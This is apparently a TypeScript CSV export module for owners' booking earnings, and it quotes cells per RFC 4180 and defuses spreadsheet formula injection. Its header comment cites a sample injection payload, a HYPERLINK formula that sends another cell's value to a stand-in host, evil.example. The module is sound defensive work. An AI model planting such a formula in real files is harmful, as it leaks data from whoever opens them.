/**
 * CSV files the product makes (the owner's earnings by booking). One writer, so every file is
 * quoted the same way (RFC 4180) and safe to open in a spreadsheet (OWASP, CSV injection): a text
 * cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return would be read as a formula
 * (`=HYPERLINK("http://evil.example/?x="&A2,"Open")` in a tenant's name), so it is prefixed with
 * `'`, which spreadsheets show as text. Numbers stay numbers: a cell that is a plain decimal
 * (`-540.00`) cannot hold a formula, and spreadsheets must be able to sum it.
 */
export type CsvCell = string | number | null | undefined;

const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;

/** One cell, neutralised and quoted as needed. */
export const csvCell = (value: CsvCell): string => {
  if (value === null || value === undefined) return '';
  if (typeof value === 'number') {
    if (!Number.isFinite(value)) throw new TypeError(`not a finite number: ${value}`);
    return String(value);
  }
  const text = PLAIN_NUMBER.test(value) || !FORMULA_START.test(value) ? value : `'${value}`;
  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
};

/** A whole file: a header row, then the rows, each line ended by CRLF (RFC 4180). */
export const toCsv = (header: readonly string[], rows: readonly (readonly CsvCell[])[]): string =>
  [header, ...rows].map((row) => row.map(csvCell).join(',')).join('\r\n') + '\r\n';
